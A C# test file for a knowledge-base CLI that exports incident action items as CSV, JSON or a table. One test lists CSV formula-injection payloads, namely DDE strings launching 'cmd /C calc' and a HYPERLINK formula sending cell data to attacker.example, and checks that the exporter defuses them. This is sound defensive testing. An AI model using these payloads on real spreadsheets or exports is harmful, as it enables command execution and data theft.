using System.Text.Json;
using KnowledgeBase.Cli.Tests.Support;

namespace KnowledgeBase.Cli.Tests.Commands;

public sealed class ActionsCommandTests : IDisposable
{
    private readonly TempFolder _temp = new();

    public void Dispose() => _temp.Dispose();

    /// <summary>A knowledge base of one incident whose action item has the given title and owner.</summary>
    private string OneActionItem(string title, string owner)
    {
        var input = _temp.Combine("kb");
        Directory.CreateDirectory(input);
        File.WriteAllText(Path.Combine(input, "a.md"), $"""
            ---
            title: A
            date: 2024-01-01
            action_items:
              - title: {JsonSerializer.Serialize(title)}
                owner: {JsonSerializer.Serialize(owner)}
                status: open
            ---
            Body
            """);
        return input;
    }

    /// <summary>Splits RFC 4180 CSV: quoted fields may hold commas, doubled quotes and line breaks.</summary>
    private static List<List<string>> ParseCsv(string csv)
    {
        var rows = new List<List<string>>();
        var row = new List<string>();
        var field = new System.Text.StringBuilder();
        var quoted = false;
        for (var i = 0; i < csv.Length; i++)
        {
            var c = csv[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < csv.Length && csv[i + 1] == '"') { field.Append('"'); i++; }
                else if (c == '"') quoted = false;
                else field.Append(c);
            }
            else if (c == '"') quoted = true;
            else if (c == ',') { row.Add(field.ToString()); field.Clear(); }
            else if (c == '\n') { row.Add(field.ToString()); field.Clear(); rows.Add(row); row = []; }
            else field.Append(c);
        }

        return rows;
    }

    [Fact]
    public void Csv_has_the_columns_a_tracker_import_expects_and_parses_back()
    {
        var run = Kb.Run("actions", Repo.Input, "--format", "csv", "--status", "overdue");

        Assert.Equal(0, run.ExitCode);
        var rows = ParseCsv(run.Output);
        Assert.Equal(["Summary", "Description", "Assignee", "Due Date", "Labels", "Status", "Ticket"], rows[0]);
        Assert.Equal(11, rows.Count - 1);
        Assert.All(rows.Skip(1), r =>
        {
            Assert.Equal(7, r.Count);
            Assert.Contains("https://northwind.example/kb/incidents/", r[1], StringComparison.Ordinal);
            // Overdue is a part of the open work, not a status: the item's own status is what a tracker imports.
            Assert.Contains(r[5], new[] { "open", "in-progress" });
            Assert.True(DateOnly.Parse(r[3], System.Globalization.CultureInfo.InvariantCulture) < new DateOnly(2026, 11, 26));
        });
    }

    [Fact]
    public void Json_filtered_by_owner_and_status_parses_back()
    {
        var run = Kb.Run("actions", Repo.Input, "--format", "json", "--owner", "checkout-team", "--status", "done");

        var items = JsonDocument.Parse(run.Output).RootElement.EnumerateArray().ToList();
        Assert.NotEmpty(items);
        Assert.All(items, i =>
        {
            Assert.Equal("checkout-team", i.GetProperty("owner").GetString());
            Assert.Equal("done", i.GetProperty("status").GetString());
            Assert.StartsWith("https://tracker.northwind.example/browse/", i.GetProperty("ticketUrl").GetString(), StringComparison.Ordinal);
        });
    }

    [Fact]
    public void Open_takes_in_progress_and_overdue_items_in_and_open_done_and_wont_do_add_up_to_all()
    {
        int Count(params string[] statuses) =>
            JsonDocument.Parse(Kb.Run(["actions", Repo.Input, "--format", "json", .. statuses.SelectMany(s => new[] { "--status", s })]).Output).RootElement.GetArrayLength();

        var all = Count();
        var open = Count("open");

        Assert.Equal(all, open + Count("done") + Count("wont-do"));
        Assert.Equal(open, Count("open", "in-progress", "overdue"));
        Assert.True(Count("in-progress") is > 0 and var inProgress && inProgress < open);
        Assert.True(Count("overdue") is > 0 and var overdue && overdue < open);
    }

    [Fact]
    public void The_table_marks_overdue_items_beside_their_status()
    {
        var lines = Kb.Run("actions", Repo.Input, "--status", "overdue").Output.Split('\n', StringSplitOptions.RemoveEmptyEntries);

        Assert.Equal("11 action items as of 2026-11-26", lines[0]);
        Assert.All(lines.Skip(1), l => Assert.Matches(@"^(open|in-progress) +overdue  \d{4}-\d\d-\d\d  ", l));
    }

    [Fact]
    public void An_unknown_status_is_a_usage_error()
    {
        Assert.NotEqual(0, Kb.Run("actions", Repo.Input, "--status", "later").ExitCode);
    }

    [Theory]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("+1+cmd|' /C calc'!A0")]
    [InlineData("-2+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("=HYPERLINK(\"https://attacker.example/?\"&A1, \"click\")")]
    public void Csv_cells_a_spreadsheet_would_run_as_a_formula_start_with_a_quote_and_parse_back(string formula)
    {
        var input = OneActionItem(formula, formula);

        var run = Kb.Run("actions", input, "--format", "csv");

        Assert.Equal(0, run.ExitCode);
        var rows = ParseCsv(run.Output);
        Assert.Equal(2, rows.Count);
        Assert.Equal(7, rows[1].Count);
        Assert.Equal("'" + formula, rows[1][0]);
        Assert.Equal("'" + formula, rows[1][2]);
    }

    [Fact]
    public void Csv_cells_that_are_not_formulas_are_left_as_written()
    {
        var input = OneActionItem("Alert on pool saturation = 80%, then page", "payments-team");

        var rows = ParseCsv(Kb.Run("actions", input, "--format", "csv").Output);

        Assert.Equal("Alert on pool saturation = 80%, then page", rows[1][0]);
        Assert.Equal("payments-team", rows[1][2]);
    }
}
